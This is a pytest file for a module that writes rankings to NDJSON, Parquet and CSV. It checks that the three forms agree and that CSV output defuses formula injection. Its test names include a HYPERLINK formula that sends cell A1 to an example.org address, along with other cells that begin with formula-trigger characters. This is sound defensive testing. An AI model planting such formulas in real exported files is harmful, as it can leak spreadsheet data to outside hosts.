"""Rankings as files, read by pyarrow, pandas and Python's own csv."""

import csv
import json
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow.parquet as pq
import pytest
from pandas.testing import assert_frame_equal

from adap.worker.ranking_files import WRITERS

NAMES = [
    '=HYPERLINK("http://example.org?"&A1,"open")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    'a "quoted", name',
    "two\nlines",
    "Zoë/01.png",
    "plain",
    "NA",
    "",
]


def rows(**every: Any) -> list[dict[str, Any]]:
    """A ranking whose scores need all their digits, some of them below zero."""
    return [
        {"rank": i, "example_id": name, "score": (5 - i) / 3, "label": name, **every}
        for i, name in enumerate(NAMES, start=1)
    ]


def write(folder: Path, ranking: list[dict[str, Any]]) -> dict[str, Path]:
    paths = {suffix: folder / f"ranking.{suffix}" for suffix in WRITERS}
    for suffix, write_form in WRITERS.items():
        write_form(ranking, paths[suffix])
    return paths


@pytest.mark.parametrize("positive", [True, False, None])
def test_every_form_holds_the_same_rows_in_the_same_order(
    tmp_path: Path, positive: bool | None
) -> None:
    ranking = rows() if positive is None else rows(positive=positive)
    paths = write(tmp_path, ranking)
    assert [json.loads(line) for line in paths["ndjson"].read_text().splitlines()] == ranking

    table = pq.read_table(paths["parquet"])
    assert table.to_pylist() == [{"positive": None, **row} for row in ranking]
    assert [str(field.type) for field in table.schema] == [
        *("int64", "string", "double", "string", "bool")
    ]

    frame = pd.read_csv(paths["csv"], keep_default_na=False)
    unchanged = [name for name in NAMES if name[:1] not in ("=", "+", "-", "@", "\t", "\r")]
    expected = table.to_pandas()
    kept = expected["label"].isin(unchanged).to_numpy()
    columns = ["rank", "example_id", "score", "label"]
    assert_frame_equal(frame.loc[kept, columns], expected.loc[kept, columns], check_dtype=False)
    assert frame["score"].tolist() == expected["score"].tolist()
    if positive is not None:
        assert frame["positive"].tolist() == [positive] * len(ranking)


def test_no_cell_of_the_csv_is_a_formula_and_no_name_breaks_out_of_its_cell(
    tmp_path: Path,
) -> None:
    with write(tmp_path, rows())["csv"].open(newline="", encoding="utf-8") as file:
        header, *lines = csv.reader(file)
    assert header == ["rank", "example_id", "score", "label", "positive"]
    assert [len(line) for line in lines] == [5] * len(NAMES)
    for name, line in zip(NAMES, lines, strict=True):
        for cell in (line[1], line[3]):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
            assert cell.removeprefix("'") == name
        assert float(line[2]) == (5 - int(line[0])) / 3  # a number below zero is no formula
